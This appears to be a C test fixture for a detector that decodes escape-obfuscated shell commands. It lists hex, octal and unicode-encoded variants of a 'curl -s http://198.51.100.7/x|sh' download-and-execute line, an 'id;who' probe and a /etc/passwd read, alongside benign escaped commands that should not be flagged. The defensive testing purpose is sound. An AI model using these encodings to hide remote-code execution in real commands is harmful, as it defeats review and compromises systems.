// SPDX-License-Identifier: GPL-3.0-or-later
#include "hidden.h"

static const struct hidden good[] = {
	{ "printf", "id;w",
		"grep root /etc/passwd; printf '\\x69\\x64\\x3b\\x77' | sh" },
	{ "printf", "s/^.*$/ABCD/", "sed 's/^.*$/\\x41\\x42\\x43\\x44/' f" },
	{ "printf", "id;who",
		"awk 'BEGIN{system(\"\\x69\\x64\\x3b\\x77\\x68\\x6f\")}'" },
	{ "printf", "curl -s http://198.51.100.7/x|sh",
		"printf '\\x63\\x75\\x72\\x6c\\x20\\x2d\\x73\\x20\\x68\\x74"
		"\\x74\\x70\\x3a\\x2f\\x2f\\x31\\x39\\x38\\x2e\\x35\\x31\\x2e"
		"\\x31\\x30\\x30\\x2e\\x37\\x2f\\x78\\x7c\\x73\\x68' | sh" },
	{ "printf", "curl -s http://198.51.100.7/x|sh",
		"echo -e \"\\x63\\x75\\x72\\x6c\\x20\\x2d\\x73\\x20\\x68\\x74"
		"\\x74\\x70\\x3a\\x2f\\x2f\\x31\\x39\\x38\\x2e\\x35\\x31\\x2e"
		"\\x31\\x30\\x30\\x2e\\x37\\x2f\\x78\\x7c\\x73\\x68\" | bash" },
	{ "printf", "curl -s http://198.51.100.7/x|sh",
		"printf '\\143\\165\\162\\154\\040\\055\\163\\040\\150\\164"
		"\\164\\160\\072\\057\\057\\061\\071\\070\\056\\065\\061\\056"
		"\\061\\060\\060\\056\\067\\057\\170\\174\\163\\150'|sh" },
	{ "printf", "curl -s http://198.51.100.7/x|sh",
		"$'\\x63\\x75\\x72\\x6c\\x20\\x2d\\x73\\x20\\x68\\x74\\x74\\x"
		"70\\x3a\\x2f\\x2f\\x31\\x39\\x38\\x2e\\x35\\x31\\x2e\\x31\\x"
		"30\\x30\\x2e\\x37\\x2f\\x78\\x7c\\x73\\x68'" },
	{ "printf", "id", "$'\\x69\\x64'" },
	/* Where \c ends it, and where it does not. */
	{ "printf", "find", "echo '\\0146\\0151\\0156\\0144\\c' | sh" },
	{ "printf", "find", "echo \"\\0146\\0151\\0156\\0144\\c -x\" | sh" },
	{ "printf", "find\\cx", "perl -e 'a(\"\\x66\\x69\\x6e\\x64\\cx\")'" },
	{ "printf", "id", "printf '\\151\\144'|sh" },
	{ "printf", "curl -s http://198.51.100.7/x|sh",
		"bash -c $'\\u0063\\u0075\\u0072\\u006c\\u0020\\u002d\\u0073"
		"\\u0020\\u0068\\u0074\\u0074\\u0070\\u003a\\u002f\\u002f\\u0"
		"031\\u0039\\u0038\\u002e\\u0035\\u0031\\u002e\\u0031\\u0030"
		"\\u0030\\u002e\\u0037\\u002f\\u0078\\u007c\\u0073\\u0068'" },
	{ "printf", "curl -s http://198.51.100.7/x|sh",
		"python3 -c \"exec('\\x63\\x75\\x72\\x6c\\x20\\x2d\\x73\\x20"
		"\\x68\\x74\\x74\\x70\\x3a\\x2f\\x2f\\x31\\x39\\x38\\x2e\\x35"
		"\\x31\\x2e\\x31\\x30\\x30\\x2e\\x37\\x2f\\x78\\x7c\\x73\\x68"
		"')\"" },
	{ "printf", "curl http://h/x",
		"echo -e '\\x63\\x75\\x72\\x6c http://h/x'|sh" },
	{ "printf", "curl -s http://198.51.100.7/x|sh",
		"echo -e \\\\x63\\\\x75\\\\x72\\\\x6c\\\\x20\\\\x2d\\\\x73"
		"\\\\x20\\\\x68\\\\x74\\\\x74\\\\x70\\\\x3a\\\\x2f\\\\x2f"
		"\\\\x31\\\\x39\\\\x38\\\\x2e\\\\x35\\\\x31\\\\x2e\\\\x31"
		"\\\\x30\\\\x30\\\\x2e\\\\x37\\\\x2f\\\\x78\\\\x7c\\\\x73"
		"\\\\x68 | sh" },
	{ "printf", "curl -s http://198.51.100.7/x|sh",
		"printf %b '\\0143\\0165\\0162\\0154\\0040\\0055\\0163\\0040"
		"\\0150\\0164\\0164\\0160\\0072\\0057\\0057\\0061\\0071\\0070"
		"\\0056\\0065\\0061\\0056\\0061\\0060\\0060\\0056\\0067\\0057"
		"\\0170\\0174\\0163\\0150' | sh" },
};

static const char *const not [] = {
	"grep -rPl '\\x47\\x49\\x46\\x38' /srv | wc -l",
	"cat f | egrep -e 'a|b' -e '\\x25\\x50\\x44\\x46'",
	"sed -n '/\\x47\\x49\\x46\\x38/p' f",
	"sed 's/\\x41\\x42\\x43\\x44/X/' f",
	"sed 's#\\x41\\x42\\x43\\x44#X#' f",
	"awk '/\\x47\\x49\\x46\\x38/{print}' f",
	"perl -ne 'print if /\\x47\\x49\\x46\\x38/' f",
	"rg '\\x{47}\\x{49}\\x{46}\\x{38}'",
	"find . -type f | xargs grep -l $'\\x47\\x49\\x46\\x38'",
	"sed -e 's/\\(foo\\)\\x41\\1/\\2/g'",
	"printf '\\033[1;31mred\\033[0m\\n'",
	"echo -e '\\x1b[31mError\\x1b[0m: failed'",
	"grep -P '[\\x41-\\x5a\\x61-\\x7a]+'",
	"grep -nP '[^\\x00-\\x7F]' f",
	"tr -d '\\000-\\037\\177'",
	"tr '\\200-\\377' ' ' < f",
	"printf '%s\\0' a b | xargs -0",
	"find . -name '*.c' -exec grep -l '\\u00e9' {} \\;",
	"printf '\\e[0m'",
	"PS1='\\[\\033[01;32m\\]\\u@\\h\\[\\033[00m\\]:\\w\\$ '",
	"echo '\\U0001F600 done \\u2713'",
	"jq -r '.[] | test(\\\"\\\\u0041\\\")'",
	"python3 -c 're.compile('\"'\"'[\\x20-\\x7e]+'\"'\"')'",
};

HIDDEN_MAIN("printf")
